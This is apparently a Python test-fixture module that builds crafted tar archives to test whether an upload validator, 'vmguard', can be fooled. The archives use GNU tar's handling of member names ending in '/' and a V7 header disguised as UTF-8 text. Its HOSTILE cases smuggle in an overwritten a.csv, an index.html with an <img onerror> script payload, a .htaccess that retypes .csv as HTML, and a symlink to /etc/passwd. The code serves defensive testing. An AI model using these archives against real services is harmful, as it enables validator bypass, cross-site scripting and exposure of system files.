"""tar files for test_attack_independent_ncontent.py: a regular-file member whose name
ends in `/`, its data another tar.

vmguard publishes a regular member named `d/` (type '0', written by tarfile with that
name) and validates its data as a nested tar. GNU tar (1.34) takes any member whose name
ends in `/` for a directory, does not skip its data, and reads that data as the next
headers of the archive: the nested members are unpacked at the top, beside the outer
ones (a nested `a.csv` replaces the outer `a.csv` it unpacked before), and a nested end
marker ends the archive for GNU tar (the outer members after it are never unpacked).
Python's tarfile reads `d/` as a regular file of 1024 or 10240 bytes (`members`).

Worse, the data behind `d/` need not look like a tar to vmguard: a V7 header (no magic)
whose fields all end in a space, whose 100-byte name and link fields are filled (a name
padded at its front with `./`, a link with `/`), with UTF-8 `é` in an unused field and the
checksum the *signed* sum of its bytes (GNU tar takes the signed or the unsigned sum;
libmagic's tar test only the unsigned) is UTF-8 text: vmguard types `d/` as text/plain,
validates it as text and publishes it, while GNU tar unpacks from it an `index.html`
holding `<img onerror>`, a `.htaccess`, or a symlink to /etc/passwd (`text_header`).
"""

from __future__ import annotations

import io
import os
import re
import subprocess
import tarfile
import tempfile
from pathlib import Path

SHOWN = b"x,y\n1,2\n"
HIDDEN = b"run,payload\n1,the bytes GNU tar unpacks as a.csv\n"


def made(members: list[tuple[str, bytes]], fmt: int = tarfile.GNU_FORMAT) -> bytes:
    """tarfile's archive of regular members (mode 0644), names as given."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=fmt) as t:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size, info.mode, info.mtime = len(data), 0o644, 1717000000
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _blocks(members: list[tuple[str, bytes]], fmt: int = tarfile.GNU_FORMAT) -> bytes:
    """The members' headers and data, without the end marker (whole 512-byte blocks)."""
    size = sum(512 + -(-len(d) // 512) * 512 for _, d in members)
    if fmt == tarfile.PAX_FORMAT:
        raise ValueError("plain members only")
    return made(members, fmt)[:size]


def text_header(path: str, data: bytes, link: str = "") -> bytes:
    """A V7 header and data GNU tar reads, all of it UTF-8 text (no NUL, no control but LF):
    `path` padded to 100 bytes by `./` in front, a symlink to `link` (padded by `/`) if given."""
    name = ("./" * 50)[: 100 - len(path) - 1] + "/" + path if len(path) < 99 else path
    name = name[-100:]
    assert len(name) == 100 and not name.startswith("/")
    target = ("/" * 100 + link)[-100:].encode() if link else ("\u00e9" * 50).encode()
    size = b"%011o " % (0 if link else len(data))
    head = name.encode() + b"0000644 0000000 0000000 " + size + b"%011o " % 1717000000 + b" " * 8
    head += (b"2" if link else b"0") + target + ("\u00e9" * 10).encode() + b" " * 235
    assert len(head) == 512
    signed = sum(b - 256 if b >= 128 else b for b in head)
    assert 0 < signed != sum(head)
    head = head[:148] + b" %06o " % signed + head[156:]
    body = b"" if link else data + b" " * (-len(data) % 512)
    return head + body


PAGE = b"<img src=x onerror=alert(document.domain)>\n"
HTACCESS = b"AddType text/html .csv\n"

# name -> (bytes, what GNU tar unpacks: path -> content, reason)
HOSTILE: dict[str, tuple[bytes, dict[str, bytes], str]] = {
    "tar-n-slash-collide.tar": (
        made([("a.csv", SHOWN), ("d/", _blocks([("a.csv", HIDDEN)]))]),
        {"a.csv": HIDDEN},
        "two members of one path to GNU tar: the outer a.csv and the a.csv in the data of the "
        "regular member `d/`, which GNU tar reads as headers (a trailing / is a directory to it); "
        "`tar x` keeps the last: the a.csv vmguard published as x,y is unpacked with other bytes",
    ),
    "tar-n-slash-collide-pax.tar": (
        made([("a.csv", SHOWN), ("d/", made([("a.csv", HIDDEN)], tarfile.PAX_FORMAT))], tarfile.PAX_FORMAT),
        {"a.csv": HIDDEN},
        "the same in pax format, the nested tar whole (its end marker is the archive's end to GNU tar)",
    ),
    "tar-n-slash-cut.tar": (
        made([("a.csv", SHOWN), ("d/", made([("b.csv", HIDDEN)])), ("c.csv", SHOWN)]),
        {"a.csv": SHOWN, "b.csv": HIDDEN},
        "GNU tar ends the archive at the nested end marker: c.csv, published, is never unpacked "
        "(bytes no reader of the unpacked tree sees), and b.csv lands at the top",
    ),
    "tar-n-slash-text-page.tar": (
        made([("a.csv", SHOWN), ("d/", text_header("index.html", PAGE))]),
        {"a.csv": SHOWN, "index.html": PAGE},
        "vmguard validated `d/` as UTF-8 text; GNU tar unpacks from it index.html, a page whose "
        "<img onerror> runs in the public area's origin (name-type: 'a.html in an admitted tar is refused')",
    ),
    "tar-n-slash-text-htaccess.tar": (
        made([("a.csv", SHOWN), ("d/", text_header(".htaccess", HTACCESS))]),
        {"a.csv": SHOWN, ".htaccess": HTACCESS},
        "vmguard validated `d/` as UTF-8 text; GNU tar unpacks from it a .htaccess that makes Apache "
        "serve every .csv as text/html (Names inside archives: a dot file is refused)",
    ),
    "tar-n-slash-text-symlink.tar": (
        made([("a.csv", SHOWN), ("d/", text_header("b.csv", b"", link="/etc/passwd"))]),
        {"a.csv": SHOWN, "b.csv": b"-> /etc/passwd"},
        "vmguard validated `d/` as UTF-8 text; GNU tar unpacks from it b.csv, a symlink to /etc/passwd "
        "(the tar row: 'a stream of regular files and directories only (no links, devices)')",
    ),
}


def members(data: bytes) -> list[tuple[str, bytes, int]]:
    with tarfile.open(fileobj=io.BytesIO(data)) as t:
        return [(m.name, m.type, m.size) for m in t]


def unpacked(data: bytes) -> dict[str, bytes] | None:
    """What GNU tar's `tar xf` writes (regular files; a symlink as `-> target`, slashes
    squeezed), None where tar is missing."""
    with tempfile.TemporaryDirectory() as tmp:
        (Path(tmp) / "x.tar").write_bytes(data)
        os.mkdir(os.path.join(tmp, "out"))
        try:
            subprocess.run(["tar", "xf", "../x.tar"], cwd=os.path.join(tmp, "out"), capture_output=True,
                           check=False, timeout=30)  # fmt: skip
        except FileNotFoundError:
            return None
        out = {}
        root = os.path.join(tmp, "out")
        for dirpath, _dirs, files in os.walk(root):
            for f in files:
                path = os.path.join(dirpath, f)
                if os.path.islink(path):
                    out[os.path.relpath(path, root)] = b"-> " + re.sub(r"/+", "/", os.readlink(path)).encode()
                else:
                    out[os.path.relpath(path, root)] = Path(path).read_bytes()
        return out
